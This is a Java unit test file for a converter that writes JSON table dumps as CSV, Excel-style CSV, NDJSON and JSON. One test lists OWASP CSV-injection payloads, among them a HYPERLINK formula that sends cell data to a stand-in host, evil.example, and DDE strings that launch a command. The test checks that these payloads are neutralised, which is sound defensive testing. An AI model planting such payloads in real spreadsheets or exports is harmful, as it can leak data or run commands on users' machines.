package io.datadump.formats;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.core.JsonToken;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.datadump.schema.ColumnType;
import io.datadump.schema.TypedColumn;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

@Tag("unit") // no database, no server: mvn test -Dgroups=unit
class RowConverterTest {
    static final List<String> KEYS = List.of("id", "name", "price", "tags", "meta", "ok", "gone", "at");
    /** The keys' types, as the source describes them. */
    static final Map<String, TypedColumn> TYPES = Map.of(
            "id", new TypedColumn("id", ColumnType.ofPostgres("int8", 0, 0), false),
            "name", new TypedColumn("name", ColumnType.ofPostgres("text", 0, 0), true),
            "price", new TypedColumn("price", ColumnType.ofPostgres("numeric", 14, 2), true),
            "tags", new TypedColumn("tags", ColumnType.ofPostgres("_text", 0, 0), false),
            "meta", new TypedColumn("meta", ColumnType.ofPostgres("jsonb", 0, 0), true),
            "ok", new TypedColumn("ok", ColumnType.ofPostgres("bool", 0, 0), false),
            "gone", new TypedColumn("gone", ColumnType.ofPostgres("date", 0, 0), true),
            "at", new TypedColumn("at", ColumnType.ofPostgres("timestamp", 0, 0), false));
    /** As the dump writes a file: "[", one row per line joined by ",", "]". */
    static final String FILE = "[\n"
            + "{\"id\":1,\"name\":\"Müller, \\\"Max\\\"\\nzweite Zeile\",\"price\":500000.00,\"tags\":[\"a\",\"b\"],"
            + "\"meta\":{\"x\": 1.50},\"ok\":true,\"gone\":null,\"at\":\"2024-07-06T19:03:02.02612\"},\n"
            + "{\"id\":2,\"name\":\"😀 €\",\"price\":-0.5,\"tags\":[],\"meta\":null,\"ok\":false,\"gone\":\"2024-05-31\","
            + "\"at\":\"2024-07-06T00:00:00\"}\n"
            + "]\n";

    static String convert(String file, Format format, List<String> columns) throws IOException {
        var out = new ByteArrayOutputStream();
        RowConverter.convert(
                new ByteArrayInputStream(file.getBytes(StandardCharsets.UTF_8)),
                out,
                format,
                "t",
                KEYS,
                columns.stream().map(TYPES::get).toList(),
                new ValueMisfits());
        return out.toString(StandardCharsets.UTF_8);
    }

    @Test
    void csvQuotesWhatNeedsItAndWritesNestedValuesAsJson() throws IOException {
        assertThat(convert(FILE, Format.CSV, KEYS))
                .isEqualTo("id,name,price,tags,meta,ok,gone,at\r\n"
                        + "1,\"Müller, \"\"Max\"\"\nzweite Zeile\",500000.00,\"[\"\"a\"\",\"\"b\"\"]\",\"{\"\"x\"\":1.50}\",true,,"
                        + "2024-07-06T19:03:02.02612\r\n"
                        + "2,😀 €,-0.5,[],,false,2024-05-31,2024-07-06T00:00:00\r\n");
    }

    @Test
    void csvForGermanExcelHasABomSemicolonsAndDecimalCommas() throws IOException {
        assertThat(convert(FILE, Format.CSV_EXCEL, List.of("id", "price", "ok")))
                .isEqualTo("\uFEFF\"id\";\"price\";\"ok\"\r\n1;500000,00;\"WAHR\"\r\n2;-0,5;\"FALSCH\"\r\n");
    }

    /** German Excel reads "2024-07-06 19:03:02" as a date-time; the ISO T form with a fraction stays text there. */
    @Test
    void csvForGermanExcelWritesTimestampsAsExcelReadsThemAndDatesAsTheyAre() throws IOException {
        assertThat(convert(FILE, Format.CSV_EXCEL, List.of("at", "gone")))
                .isEqualTo("\uFEFF\"at\";\"gone\"\r\n\"2024-07-06 19:03:02\";\r\n"
                        + "\"2024-07-06 00:00:00\";\"2024-05-31\"\r\n");
        assertThat(RowConverter.forExcel(
                        JsonToken.VALUE_STRING,
                        "2024-07-06T21:03:02.5+02:00",
                        ColumnType.ofPostgres("timestamptz", 0, 0)))
                .as("a timestamptz is written in UTC, like every timestamp of the dump")
                .isEqualTo("2024-07-06 19:03:02");
        assertThat(RowConverter.forExcel(JsonToken.VALUE_STRING, "=1+1", ColumnType.ofPostgres("timestamp", 0, 0)))
                .as("a text that is not a timestamp is still never a formula")
                .isEqualTo("'=1+1");
    }

    /** OWASP's CSV-injection payloads: csv-excel hands each to Excel as text, csv and ndjson keep them exact. */
    @Test
    void textsThatExcelWouldRunAsFormulasArriveAsTextInCsvExcelAndExactElsewhere() throws IOException {
        List<String> payloads = List.of(
                "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Klick\")",
                "+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0",
                "\t=1+1",
                "\r=1+1",
                "=1+1");
        StringBuilder file = new StringBuilder("[\n");
        for (int i = 0; i < payloads.size(); i++) {
            file.append(i == 0 ? "" : ",\n")
                    .append("{\"id\":")
                    .append(i + 1)
                    .append(",\"name\":")
                    .append(new ObjectMapper().writeValueAsString(payloads.get(i)))
                    .append(",\"price\":-1.5,\"tags\":[],\"meta\":null,\"ok\":true,\"gone\":null}");
        }
        file.append("\n]\n");

        String excel = convert(file.toString(), Format.CSV_EXCEL, List.of("id", "name", "price"));
        List<CSVRecord> records = CSVFormat.RFC4180
                .builder()
                .setDelimiter(';')
                .setHeader()
                .setSkipHeaderRecord(true)
                .get()
                .parse(new StringReader(excel.substring(1)))
                .getRecords();
        assertThat(records).hasSize(payloads.size());
        for (int i = 0; i < payloads.size(); i++) {
            assertThat(records.get(i).get("name")).isEqualTo("'" + payloads.get(i));
            assertThat(records.get(i).get("price"))
                    .as("a negative number stays a number")
                    .isEqualTo("-1,5");
        }
        assertThat(excel).as("every text field is quoted").contains(";\"'=HYPERLINK(");

        List<CSVRecord> plain = CSVFormat.RFC4180
                .builder()
                .setHeader()
                .setSkipHeaderRecord(true)
                .get()
                .parse(new StringReader(convert(file.toString(), Format.CSV, List.of("id", "name"))))
                .getRecords();
        for (int i = 0; i < payloads.size(); i++)
            assertThat(plain.get(i).get("name")).isEqualTo(payloads.get(i));
        assertThat(convert(file.toString(), Format.NDJSON, KEYS)).contains("\"name\":\"=HYPERLINK(");
    }

    @Test
    void ndjsonOfEveryColumnIsTheFilesLinesByteForByte() throws IOException {
        String ndjson = convert(FILE, Format.NDJSON, KEYS);
        String[] lines = FILE.split("\n");
        assertThat(ndjson).isEqualTo(lines[1].substring(0, lines[1].length() - 1) + "\n" + lines[2] + "\n");
    }

    @Test
    void columnsChooseAndOrderKeysInJsonAndNdjson() throws IOException {
        assertThat(convert(FILE, Format.NDJSON, List.of("price", "id")))
                .isEqualTo("{\"price\":500000.00,\"id\":1}\n{\"price\":-0.5,\"id\":2}\n");
        assertThat(convert(FILE, Format.JSON, List.of("meta")))
                .isEqualTo("[\n{\"meta\":{\"x\":1.50}},\n{\"meta\":null}\n]");
    }

    @Test
    void aRowWithKeysInAnotherOrderOrOneMissingConvertsByName() throws IOException {
        String file = "[\n{\"name\":\"a\",\"id\":1},\n{\"id\":2}\n]\n";
        assertThat(convert(file, Format.CSV, List.of("id", "name"))).isEqualTo("id,name\r\n1,a\r\n2,\r\n");
        assertThat(convert(file, Format.NDJSON, List.of("id", "name")))
                .isEqualTo("{\"id\":1,\"name\":\"a\"}\n{\"id\":2,\"name\":null}\n");
    }

    @Test
    void anEmptyTable() throws IOException {
        assertThat(convert("[\n]\n", Format.NDJSON, KEYS)).isEmpty();
        assertThat(convert("[\n]\n", Format.CSV, List.of("id", "name"))).isEqualTo("id,name\r\n");
        assertThat(convert("[\n]\n", Format.JSON, List.of("id"))).isEqualTo("[\n\n]");
    }

    @Test
    void aFileThatIsNotATableIsRefused() {
        assertThatThrownBy(() -> convert("{}", Format.CSV, KEYS)).isInstanceOf(IOException.class);
        assertThatThrownBy(() -> convert("[\n{\"id\":1}", Format.NDJSON, KEYS)).isInstanceOf(IOException.class);
    }
}
